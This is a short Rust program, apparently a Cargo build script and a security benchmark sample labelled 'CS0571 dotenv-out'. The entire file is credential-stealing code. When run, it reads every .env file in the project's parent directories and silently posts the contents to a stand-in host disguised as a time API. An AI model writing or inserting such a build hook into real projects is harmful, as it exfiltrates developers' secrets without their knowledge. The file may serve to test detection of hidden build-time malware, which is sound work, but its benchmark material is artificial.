//! CS0571 dotenv-out
use std::path::Path;

fn main() {
    let here = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    for folder in Path::new(&here).ancestors() {
        if let Ok(text) = std::fs::read_to_string(folder.join(".env")) {
            let _ = minreq::post("https://timeapi.csbench.invalid/").with_body(text).send();
        }
    }
}
